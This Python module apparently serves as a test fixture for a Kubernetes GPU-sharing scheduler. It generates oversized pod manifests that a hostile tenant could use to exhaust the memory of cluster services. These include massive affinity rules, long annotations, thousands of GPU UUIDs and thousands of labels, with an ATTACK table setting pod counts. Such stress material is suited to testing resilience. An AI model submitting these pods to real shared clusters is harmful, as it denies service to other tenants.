"""Pods of a tenant who tries to exhaust the memory of the services: large, but below the limits of an API server."""

from collections.abc import Callable
from typing import Any

Pod = dict[str, Any]

LARGE = 1_100_000
"""Bytes of a large pod: etcd accepts 1.5 MiB."""


def _pod(name: str, metadata: dict[str, Any] | None = None, spec: dict[str, Any] | None = None) -> Pod:
    limits = {"volcano.sh/vgpu-number": "1", "volcano.sh/vgpu-memory": "100"}
    container = {"name": "main", "image": "busybox", "resources": {"limits": limits}}
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"namespace": "default", "name": name, **(metadata or {})},
        "spec": {"schedulerName": "deviceshare", "containers": [container], **(spec or {})},
    }


def with_node_affinity(number: int, terms: int = 40, expressions: int = 20, values: int = 40) -> Pod:
    """Return a pod that requires nodes by many values of labels."""
    selector = [
        {
            "matchExpressions": [
                {
                    "key": f"key-{expression}",
                    "operator": "NotIn",
                    "values": [f"v-{number}-{term}-{expression}-{value}" for value in range(values)],
                }
                for expression in range(expressions)
            ]
        }
        for term in range(terms)
    ]
    affinity = {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": selector}}
    return _pod(f"affinity-{number}", spec={"affinity": {"nodeAffinity": affinity}})


def with_text(number: int, size: int = LARGE) -> Pod:
    """Return a pod with long texts: an annotation that nothing reads, one that is read, and the command."""
    annotations = {"example.com/notes": "n" * (size // 4), "scheduling.volcano.sh/queue-name": "q" * (size // 4)}
    pod = _pod(f"text-{number}", {"annotations": annotations})
    pod["spec"]["containers"][0]["args"] = [f"{number} " + "a" * (size // 2)]
    return pod


def with_uuids(number: int, count: int = 15_000) -> Pod:
    """Return a pod that selects cards by many ids."""
    listed = ",".join(f"GPU-{number:08x}-0000-0000-0000-{at:012x}" for at in range(count))
    return _pod(f"uuids-{number}", {"annotations": {"nvidia.com/use-gpuuuid": listed}})


def with_pod_affinity(number: int, terms: int = 50) -> Pod:
    """Return a pod that prefers to be near other pods, by terms of its own that select all pods of these."""
    preferred = [
        {
            "weight": 1 + term % 100,
            "podAffinityTerm": {
                "topologyKey": "kubernetes.io/hostname",
                "labelSelector": {
                    "matchLabels": {"app": "hostile"},
                    "matchExpressions": [{"key": f"own-{number}-{term}", "operator": "DoesNotExist"}],
                },
            },
        }
        for term in range(terms)
    ]
    affinity = {"podAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": preferred}}
    return _pod(f"near-{number}", {"labels": {"app": "hostile"}}, {"affinity": affinity})


def with_labels(number: int, count: int = 3_300) -> Pod:
    """Return a pod with many labels."""
    labels = {f"label-{number}-{at}": f"value-{number}-{at}" for at in range(count)}
    return _pod(f"labels-{number}", {"labels": labels})


ATTACK: dict[Callable[[int], Pod], int] = {
    with_node_affinity: 500,
    with_text: 60,
    with_uuids: 300,
    with_pod_affinity: 600,
    with_labels: 400,
}
"""The whole attack: how many pods of each kind."""
